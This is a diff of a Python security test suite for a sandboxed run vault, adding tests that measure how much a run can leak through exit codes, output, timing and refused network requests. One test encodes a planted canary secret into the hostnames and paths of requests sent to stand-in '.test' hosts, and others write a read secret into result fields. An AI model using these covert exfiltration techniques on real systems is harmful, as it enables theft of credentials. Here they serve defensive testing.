@@ -7,11 +7,13 @@ from __future__ import annotations
 
 import json
 import math
+import re
 import socket
 import subprocess
 import sys
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import replace
+from functools import cache
 from pathlib import Path
 from typing import Any
 
@@ -23,7 +25,7 @@ from factory.sandbox.bubblewrap import Bubblewrap
 from factory.sandbox.protocol import Limits
 from factory.testing.forge_process import ForgeProcess
 from factory.vault.policy import Inject
-from factory.vault.ports import Order
+from factory.vault.ports import Order, Outcome
 from factory.vault.run import attempt, chamber, control
 from factory.vault.run.inside import layout
 from factory.vault.run.redact import Redactor
@@ -40,6 +42,23 @@ def give(**f): open({layout.RESULT!r}, 'w').write(json.dumps(f))
 """
 HOSTS = ("GET,POST api.test/",)
 TO_API = {"hosts": HOSTS, "secrets": ("TOKEN",), "inject": {"api.test": Inject("TOKEN", "Authorization", "Bearer ")}}
+
+
+def ask(url: str, body: str = "None") -> str:
+    """Python that asks for an address through the broker and goes on whatever becomes of it."""
+    return (f"import urllib.request as u\ntry: u.build_opener(u.ProxyHandler({{'http': '{PROXY}'}}))"
+            f".open('{url}', data={body}, timeout=10)\nexcept OSError: pass\n")  # fmt: skip
+
+
+def some_are_dead(house: House) -> Callable[[str, int], socket.socket]:
+    """What opens connections, with a host that never answers."""
+
+    def connect(name: str, port: int) -> socket.socket:
+        if name == "dead.test":
+            raise ConnectionRefusedError
+        return house.outside.connect(name, port)
+
+    return connect
 
 
 def ran(happened: bool) -> str:
@@ -122,23 +141,36 @@ give(value=told, secret_in_a_field=1)
                 ran("reached" in reached))  # fmt: skip
 
 
-SAYS = "{bits:.1f} bits a run without a result; with one, its fields and 8 KiB"
+SAYS = ("{:.1f} bits a run without a result, {:.1f} where it may read from hosts, {:.1f} where it may send to them; "
+        "with a result, its fields and 8 KiB")  # fmt: skip
 
 
-@attack(29, "How much a run says by how it ends: exit codes, amounts printed, files, fields that there are not, sizes",
-        vault="1.6 bits a run without a result; with one, its fields and 8 KiB",
-        check="what was left out is told in the log on the host, and the log's digest begins with a random line")
+@attack(29, "How much a run says by how it ends: exit codes, amounts printed, files, fields that there are not, sizes, "
+            "what it held back, requests",
+        vault=SAYS.format(2, math.log2(6), math.log2(10)),
+        check="endings are fixed words; which bound, secret or request it was stands in the log on the host, and the "
+              "log's digest begins with a random line")  # fmt: skip
 def test_attack_29_measured_capacity(house: House, monkeypatch: pytest.MonkeyPatch) -> Seen:
     """Every way to end that a run can choose, against what is seen of it outside: the outcome without its log's
-    digest, which no two runs share. Sizes need no buckets: who sees how long a field is reads it."""
+    digest, which no two runs share. Sizes need no buckets: who sees how long a field is reads it, and no other size
+    is told. When it ends is another matter: that is seen to the second."""
+    house.secrets["TOKEN"] = CANARY
 
-    def outside(code: str) -> tuple[str, str, str]:
-        outcome = house.run(house.order(formula(GIVE + code)))
+    @cache
+    def outside(code: str, hosts: tuple[str, ...] = ()) -> tuple[str, str, str]:
+        order = house.order(formula(GIVE + code), hosts=hosts, secrets=("TOKEN",))
+        outcome = house.run(order, runner=hasty if "while True: pass" in code else None)
         digests.append(outcome.log_sha256)
         return outcome.state, outcome.words, json.dumps(outcome.result)
 
+    def seen(codes: list[str], *hosts: str) -> set[tuple[str, str, str]]:
+        return {outside(code, hosts) for code in codes}
+
     def capacity(codes: list[str]) -> float:
-        return math.log2(len({outside(code) for code in codes}))
+        return math.log2(len(seen(codes)))
+
+    house.runner(connect=some_are_dead(house))
+    hasty = house.runner(connect=some_are_dead(house), minute_s=2.0)
 
     digests: list[str] = []
     quiet = ["pass", "print('x' * 100_000)", f"[open(f'{layout.OUT}/{{n}}', 'w') for n in range(40)]"]
@@ -146,7 +178,20 @@ def test_attack_29_measured_capacity(house: House, monkeypatch: pytest.MonkeyPat
     sizes = [f"give(note='x' * {size})" for size in (501, 5_000)]
     failing = [f"print('x' * {code}); exit({code})" for code in (1, 2, 77, 255)]
     assert capacity([*quiet, *fields, *sizes]) == 0, "it was done, and nothing else is said"
-    bits = capacity([*failing, quiet[0], "import sys\nwhile True: sys.stdout.write('x' * 65536)"])
+    kept = [f"t = os.read(4, 999)\ngive(note={how})" for how in (
+        "t.decode()", "t.hex()", "t.hex() + t.decode()", "'AKIA' + 'IOSFODNN7ABCDEFG'")]  # fmt: skip
+    stopped = ["import sys\nwhile True: sys.stdout.write('x' * 65536)", "while True: pass"]
+    assert capacity(kept) == 0, "a secret in it is a secret in it, whichever and however it is written"
+    assert capacity(stopped) == 0, "a bound is a bound"
+    ways = [quiet[0], failing[0], kept[0], stopped[0]]
+    refused = [ask("http://secret.test/"), ask("http://api.test/b/%2e"), ask("http://api.test/", "b'1'") * 3]
+    asked = [*refused, ask("http://dead.test/a"), ask("http://dead.test/b") * 3, ask("http://api.test/c")]
+    more = [*(one + failing[0] for one in asked), asked[0] + quiet[0], asked[0] + stopped[0]]
+    sent = [ask("http://api.test/pay", "b'1'") + way for way in (*ways, *(one + failing[0] for one in asked[1:5:2]))]
+    alone = seen([*ways, *failing])
+    reading = alone | seen(more, "GET api.test/", "GET dead.test/")
+    sending = reading | seen(sent, "GET,POST api.test/", "GET dead.test/")
+    bits = [math.log2(len(ends)) for ends in (alone, reading, sending)]
     assert len(set(digests)) == len(digests)
     longest = house.run(house.order(formula(GIVE + "give(note='y' * 500, value=['z' * 6000], path='p' * 200, "
                                                    "url='http://a.test/' + 'u' * 200, name='n' * 120, kind='k' * 120,"
@@ -158,7 +203,43 @@ def test_attack_29_measured_capacity(house: House, monkeypatch: pytest.MonkeyPat
         return "; ".join(["done", *dropped]), found
 
     monkeypatch.setattr(attempt.Attempt, "_result", told)
-    return Seen("-", SAYS.format(bits=bits), ran(capacity(fields) > 1))
+    outside.cache_clear()
+    return Seen("-", SAYS.format(*bits), ran(capacity(fields) > 1))
+
+
+@attack(29, "What a run says by the requests that are refused, or that no host answers: names, paths, how many, in "
+            "which order", vault="that there was one; none of its words",
+        check="what is told of requests is one of three fixed texts")  # fmt: skip
+def test_attack_29_said_by_refused_requests(house: House, monkeypatch: pytest.MonkeyPatch) -> Seen:
+    """The canary, in pieces, as hosts, paths and methods of requests that go nowhere; and it is searched for in what
+    the ledger and the forge get to see."""
+    house.secrets["TOKEN"] = CANARY
+    pieces = [ask("http://' + t[:24] + '.test/"), ask("http://api.test/' + t[24:36] + '"),
+              ask("http://api.test/' + t[36:] + '", "b'1'"), ask("http://dead.test/' + t + '")]  # fmt: skip
+    code = GIVE + "t = bytes(byte ^ 1 for byte in os.read(4, 999)).hex()\n" + "".join(pieces) + "exit(1)"
+    hosts = ("GET api.test:8443/", "GET dead.test/", "POST api.test/pay")
+    order = house.order(formula(code), hosts=hosts, secrets=("TOKEN",))
+
+    def found(outcome: Outcome) -> bool:
+        """Whether who knows how it was cut and written puts it together again."""
+        said = bytes.fromhex("".join(re.findall(r"[0-9a-f]{12,}", outcome.words))[: 2 * len(CANARY)])
+        return bytes(byte ^ 1 for byte in said) == CANARY
+
+    house.runner(connect=some_are_dead(house))
+    outcome = house.run(order)
+    assert outcome.words == "its step failed; a request of it was refused"
+    assert not found(outcome)
+    house.asked.clear()
+    house.live = lambda one: len(house.asked) < 2
+    pays = formula(ask("http://api.test/pay/' + 'f00d' * 9 + '", "b'1'") + "exit(1)")
+    fenced = house.run(replace(order, run="0" * 32, formula=pays))
+    assert fenced.words == "its step failed; the ledger no longer says that this run may"
+    house.live = lambda one: True
+    lines: list[str] = []
+    line = RunLog.line
+    monkeypatch.setattr(RunLog, "line", lambda self, text: (lines.append(text), line(self, text))[1])
+    monkeypatch.setattr(attempt.Attempt, "_why", lambda *_: "; ".join(t for t in lines if "broker: " in t)[:500])
+    return Seen("-", "that there was one; none of its words", ran(found(house.run(replace(order, run="1" * 32)))))
 
 
 @attack(30, "A run speaks to the forge: API, git, by the broker and around it", vault="it has no way there",
